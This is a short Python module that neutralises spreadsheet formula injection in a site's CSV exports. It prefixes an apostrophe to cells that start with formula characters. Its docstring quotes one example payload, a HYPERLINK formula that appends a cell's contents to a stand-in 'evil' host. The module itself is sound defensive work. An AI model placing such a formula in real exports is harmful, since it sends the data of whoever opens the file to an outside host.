"""CSV that is safe to open in a spreadsheet (formula injection, CWE-1236).

Every CSV the site produces carries text people typed (titles, summaries,
organisation names, tags, moderation reasons). A cell starting with `=`,
`+`, `-` or `@` is read as a formula by Excel, LibreOffice and Google Sheets,
and tab or carriage return can start one after the spreadsheet strips them,
so `=HYPERLINK("http://evil/?"&A1, "Click")` in a title would run on the
machine of whoever opens the export. Such cells get a leading apostrophe
(OWASP's advice): spreadsheets show the text as typed, and a program reading
the file still sees it. Numbers are not text and are left as they are."""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """csv.writer's writerow/writerows, with every cell neutralised."""

    def __init__(self, target, **kwargs):
        self._writer = csv.writer(target, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(target, **kwargs):
    """Use instead of csv.writer for anything a person may download."""
    return SafeWriter(target, **kwargs)
